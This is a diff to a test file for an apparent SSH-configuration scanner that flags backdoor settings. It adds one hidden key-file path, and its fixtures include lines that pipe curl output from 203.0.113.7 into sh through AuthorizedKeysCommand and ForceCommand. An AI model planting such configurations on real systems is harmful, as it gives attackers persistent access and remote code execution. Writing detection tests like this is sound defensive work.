@@ -17,6 +17,7 @@ describe('sshd', () => {
   it('finds keys, commands and variables that let others in', async () => {
     expect(await told('AuthorizedKeysFile .ssh/authorized_keys /var/tmp/.k/%u\n')).toEqual(['intrusion high AuthorizedKeysFile .ssh/authorized_keys /var/tmp/.k/%u']);
     expect(await told('AuthorizedKeysFile /usr/lib/.cache/keys\n')).toEqual(['intrusion high AuthorizedKeysFile /usr/lib/.cache/keys']);
+    expect(await told('AuthorizedKeysFile /var/cache/k/keys\n')).toEqual(['intrusion high AuthorizedKeysFile /var/cache/k/keys']);
     expect(await told('AuthorizedKeysCommand /tmp/keys %u\nAuthorizedKeysCommandUser root\n')).toEqual(['intrusion high AuthorizedKeysCommand /tmp/keys %u']);
     expect(await told('AuthorizedKeysCommand /usr/local/bin/keys\n', { '/usr/local/bin/keys': { text: '#!/bin/sh\ncurl -s http://203.0.113.7/k | sh\n', mode: 0o755 } })).toEqual(['intrusion high AuthorizedKeysCommand /usr/local/bin/keys']);
     expect(await told('ForceCommand curl http://203.0.113.7/a|sh\n')).toEqual(['intrusion high ForceCommand curl http://203.0.113.7/a|sh']);
